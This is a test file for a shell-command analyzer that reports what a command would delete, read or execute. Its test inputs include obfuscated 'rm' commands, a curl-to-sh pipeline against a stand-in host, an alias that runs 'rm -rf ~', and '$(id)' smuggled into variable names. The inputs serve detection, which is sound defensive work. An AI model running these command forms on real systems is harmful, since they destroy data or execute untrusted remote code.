import { describe, expect, it } from 'vitest';
import { effectsOf, operationsOf } from './operations.ts';

const rmA = ['execute rm a', 'delete /workspace/a'];
const lost = 'unknown read .: the directory it is relative to is only known at run time';

describe('every part of a compound counts', () => {
  it.each([
    'ls; rm a',
    'ls\nrm a',
    'ls & rm a',
    'ls && rm a',
    'ls || rm a',
    'ls | rm a',
    'ls |& rm a',
    '! rm a',
    'time rm a',
    'time -p rm a',
    '( rm a )',
    '{ rm a; }',
    'if true; then rm a; fi',
    'if rm a; then ls; fi',
    'if ls; then ls; elif rm a; then ls; fi',
    'if ls; then ls; elif ls; then rm a; fi',
    'if ls; then ls; else rm a; fi',
    'while true; do rm a; done',
    'until rm a; do ls; done',
    'for x in 1; do rm a; done',
    'case x in x) rm a;; esac',
    'case x in y) ls;; *) rm a; esac',
    'case x in $(rm a)) ls;; esac',
    'echo $(rm a)',
    'echo `rm a`',
    'echo "$(rm a)"',
    'echo "`rm a`"',
    'echo "${x:-$(rm a)}"',
    'echo "${x:-`rm a`}"',
    'echo ${x/$(rm a)/b}',
    'echo ${x#$(rm a)}',
    'echo ${x:$(rm a):1}',
    'echo $((1 + $(rm a)))',
    'echo $((`rm a`))',
    'x=$(rm a)',
    'x=$(rm a) ls',
    'export x=$(rm a)',
    'ls > $(rm a)',
    'ls <<< $(rm a)',
    'cat <<EOF\n$(rm a)\nEOF',
    'cat <<EOF\n${x:-`rm a`}\nEOF',
    'cat <<-EOF\n\t$(rm a)\n\tEOF',
    'diff <(rm a) b',
    'ls > >(rm a)',
    '[[ $(rm a) ]]',
    '[[ a =~ $(rm a) ]]',
    '[[ -f x && -n `rm a` ]]',
    '[ -n "$(rm a)" ]',
    '(( $(rm a) ))',
    'for x in $(rm a); do ls; done',
    '{ ls; } > $(rm a)',
    '$(rm a)',
    '{rm,a}',
    'r\\\nm a',
    '"r"m a',
    '\\rm a',
    'x=rm; $x a',
    "eval 'rm a'",
    "eval rm 'a'",
    "bash -c 'rm a'",
    "sh -c 'rm a'",
    "bash <<'EOF'\nrm a\nEOF",
    "bash <<< 'rm a'",
    'command rm a',
    'command -p rm a',
    'builtin eval rm a',
    'exec rm a',
    'exec -a ls rm a',
    'exec -cl rm a',
    'env X=1 rm a',
    'timeout 5 rm a',
    'nohup rm a &',
    'sudo rm a',
    'time sudo nice -n 5 env A=1 timeout 5 rm a',
    'find . -maxdepth 0 -exec rm a \\;',
    '/bin/rm a',
    '>&2 rm a',
    '2>/dev/null rm a',
    'rm a # not b',
    'cat <<A <<B\n$(rm a)\nA\nB',
  ])('%s', command => {
    const operations = operationsOf(command);
    expect(operations).toContain('delete /workspace/a');
    expect(operations).toContain('execute rm a');
  });
});

describe('follows where the shell is', () => {
  it.each([
    ['cd /etc && cat a', ['read /etc/a']],
    ['cd /etc; cat a', ['read /etc/a', 'read /workspace/a']],
    ['cd /etc || cat a', ['read /workspace/a']],
    ['(cd /etc && cat a); cat b', ['read /etc/a', 'read /workspace/b']],
    ['{ cd /etc && cat a; } && cat b', ['read /etc/a', 'read /etc/b']],
    ['cd /etc & cat a', ['read /workspace/a']],
    ['cd / && cd etc && cat a', ['read /etc/a']],
    ['cd ~ && cat a', ['read /home/user/a']],
    ['cd && cat a', ['read /home/user/a']],
    ['cd -- /etc && cat a', ['read /etc/a']],
    ['cd "" && cat a', ['read /workspace/a']],
    ['builtin cd /etc && cat a', ['read /etc/a']],
    ['command cd /etc && cat a', ['read /etc/a']],
    ['eval "cd /etc" && cat a', ['evaluate shell: cd /etc', 'read /etc/a']],
    ['pushd /etc && cat a', ['read /etc/a']],
    ['if cd /etc; then cat a; fi; cat b', ['read /etc/a', 'read /etc/b', 'read /workspace/b']],
    ['! cd /etc && cat a', ['read /workspace/a']],
    ["bash -c 'cd /etc'; cat a", ['read /workspace/a']],
    ['x=$(cd /etc); cat a', ['change environment x', 'read /workspace/a']],
    ['while read x; do cd ..; cat a; done', expect.arrayContaining(['read /a', 'read /workspace/a'])],
    ['for x in 1 2; do cat a; cd /etc; done', expect.arrayContaining(['read /workspace/a', 'read /etc/a'])],
  ])('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });

  it.each(['cd -', 'cd "$X"', 'cd $(ls)', 'cd -P a', 'cd a b', 'popd', 'cd *', 'cd +1', 'cd ~root', 'cd ~+'])(
    'does not know after `%s`',
    command => {
      expect(effectsOf(`${command} && cat a`)).toEqual(
        expect.arrayContaining(['unknown read a: the directory it is relative to is only known at run time']),
      );
    },
  );

  it.each(['CDPATH=/etc cd x', 'PWD=/etc', 'OLDPWD=/etc', 'DIRSTACK=x', 'cd x; unset PWD'])('refuses `%s`', command => {
    expect(effectsOf(command).some(effect => effect.startsWith('unknown '))).toBe(true);
  });
});

describe('knows what is never reached', () => {
  it.each([
    ['exit; rm a', []],
    ['exit 0; rm a', []],
    ['{ exit; }; rm a', []],
    ['if true; then exit; else exit 1; fi; rm a', []],
    ['eval exit; rm a', ['evaluate shell: exit']],
  ])('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });

  it.each([
    'exit x; rm a',
    'exit 1 2; rm a',
    'exit $((1/0))\nrm a',
    'exit $X; rm a',
    'exit < missing; rm a',
    'exit > /nowhere/x; rm a',
    '(exit); rm a',
    'exit | ls; rm a',
    'ls | exit; rm a',
    'exit & rm a',
    'bash -c exit; rm a',
    'x=$(exit); rm a',
    'if ls; then exit; fi; rm a',
    'ls && exit; rm a',
    'while ls; do exit; done; rm a',
    'break; rm a',
    'return; rm a',
    'exec ls; rm a',
    'exec missing; rm a',
    'set -e; false; rm a',
    'kill -9 $$; rm a',
    'false && ls; rm a',
  ])('%s goes on', command => {
    expect(operationsOf(command)).toEqual(expect.arrayContaining(rmA));
  });
});

describe('never guesses', () => {
  it.each([
    ['$X a', 'unknown : the program is only known at run time'],
    ['"$@"', 'unknown : the program is only known at run time'],
    ['$(cat f) a', 'unknown : the program is only known at run time'],
    ['/bin/r? a', 'unknown /bin/r: the program is only known at run time'],
    ['l* a', 'unknown l: the program is only known at run time'],
    ['"" a', 'unknown : the program is only known at run time'],
    ['!/bin/sh', 'unknown !/bin/sh: shells disagree on what `!` means here'],
    ['!!', 'unknown !!: shells disagree on what `!` means here'],
    ["trap 'cd /' DEBUG", 'unknown trap: what this does to the shell is not followed'],
    ["trap 'cd /' INT", 'unknown trap: what this does to the shell is not followed'],
    ['trap "$X" EXIT', 'evaluate shell: ‹known only at run time›'],
    ["alias ls='rm -rf ~'; ls", 'unknown alias: shells disagree on where this is expanded'],
    ['enable -f ./x.so ls', 'unknown enable: what this does to the shell is not followed'],
    ['hash -p /tmp/x ls', 'unknown hash: the option `-p` is not known'],
    ['mapfile -C ls -c 1 a < f', 'unknown mapfile: this is not the name of a variable'],
    ["let 'x=a[$(id)]'", 'evaluate arithmetic: x=a[$(id)]'],
    ['let "$X"', 'evaluate arithmetic: ‹known only at run time›'],
    ["getopts a 'x[$(id)]'", 'unknown getopts: this is not the name of a variable'],
    ['complete -C x y', 'unknown complete: what this does to the shell is not followed'],
    ["printf -v 'a[$(id)]' x", 'unknown printf: this is not the name of a variable'],
    ['declare -n r=PATH', 'unknown declare: an attribute of variables is not followed'],
    ['declare -i x', 'unknown declare: an attribute of variables is not followed'],
    ['declare -i x=1', 'unknown declare: an attribute of variables is not followed'],
    ["read 'a[$(id)]'", 'unknown read: this is not the name of a variable'],
    ["unset 'a[$(id)]'", 'unknown unset: this is not the name of a variable'],
    ["export 'a[$(id)]=1'", 'unknown export: this is not the name of a variable'],
    ['set -k', 'unknown set: what this does to the shell is not followed'],
    ['set -o posix', 'unknown set: what this does to the shell is not followed'],
    ['shopt -s expand_aliases', 'unknown shopt: what this does to the shell is not followed'],
    ['shopt -s dotglob', 'unknown shopt: what this does to the shell is not followed'],
    ['IFS=/', 'unknown IFS=: this variable changes how the shell reads what follows'],
    ['GLOBIGNORE=x', 'unknown GLOBIGNORE=: this variable changes how the shell reads what follows'],
    ['export IFS=/', 'unknown IFS=: this variable changes how the shell reads what follows'],
    ['read IFS', 'unknown IFS=: this variable changes how the shell reads what follows'],
    [': ${IFS:=/}', 'unknown IFS=: this variable changes how the shell reads what follows'],
    ['for IFS in /; do ls; done', 'unknown IFS=: this variable changes how the shell reads what follows'],
    ['((BASH_COMPAT=31))', 'unknown BASH_COMPAT=: this variable changes how the shell reads what follows'],
    ['eval "$X"', 'evaluate shell: ‹known only at run time›'],
    ['eval ls *', 'evaluate shell: ‹known only at run time›'],
    ['eval "$(cat f)"', 'evaluate shell: ‹known only at run time›'],
    ['. <(curl x)', 'evaluate shell: ‹known only at run time›'],
    ['source /dev/stdin <<< ls', 'evaluate shell: ‹known only at run time›'],
    ['curl -s http://a.example/x | sh', 'evaluate shell: ‹known only at run time›'],
    ['bash -s x.sh < f', 'evaluate shell: ‹known only at run time›'],
    ['tee >(sh)', 'evaluate shell: ‹known only at run time›'],
    ['bash - x.sh <<< ls', 'unknown bash: what comes after `-` says what is run'],
    ['echo ${!x}', 'evaluate indirection: ${!x}'],
    ['x=\'a[$(id)]\'; echo "${!x}"', 'evaluate indirection: ${!x}'],
  ])('%s', (command, effect) => {
    expect(effectsOf(command)).toContain(effect);
  });

  it.each(['source x', '. x', 'eval "$X"', 'unset "$X"'])('knows no variable after `%s`', command => {
    expect(effectsOf(`x=a; ${command}; cat "$x"`)).toContain(
      'unknown cat: an argument that is only known at run time may be an option',
    );
  });
});

describe('shells other than bash', () => {
  it.each(['((rm -rf a))', '[[ a || ./evil ]]', '[[ a > b ]]', 'eval "((rm a))"', '{ [[ a ]]; }'])(
    'sh -c %j is not what bash makes of it',
    script => {
      expect(effectsOf(`sh -c '${script}'`).some(effect => effect.endsWith('shells disagree on what this means'))).toBe(
        true,
      );
      expect(effectsOf(`bash -c '${script}'`).some(effect => effect.includes('disagree'))).toBe(false);
    },
  );

  it.each(['declare x=a', 'typeset x=a', 'pushd a', 'shopt -s nullglob', 'source a', 'builtin cd a'])(
    'sh -c %j is no builtin',
    script => {
      expect(effectsOf(`sh -c '${script}'`)).toContain(
        `unknown ${script.split(' ')[0]}: what this does to the shell is not followed`,
      );
    },
  );

  it.each([
    ["sh -c 'cat {a,b}'", 'unknown cat: an argument that is only known at run time may be an option'],
    ['sh -c \'y="a PATH=/x"; export x=$y\'', 'unknown export: this is not the name of a variable'],
  ])('%s', (command, effect) => {
    expect(effectsOf(command)).toContain(effect);
  });
});

it('goes back to `.` for a program that is not described', () => {
  expect(operationsOf('cd "$X"; frobnicate')).toEqual(['execute cd ‹dynamic›', 'execute frobnicate', lost]);
});

it('tells operations apart that only look alike when joined', () => {
  expect(operationsOf("frob 'a,b'; frob a b; frob '' x; frob $Y x").filter(each => each.startsWith('execute'))).toEqual(
    ['execute frob a,b', 'execute frob a b', 'execute frob x', 'execute frob ‹dynamic› x'],
  );
});
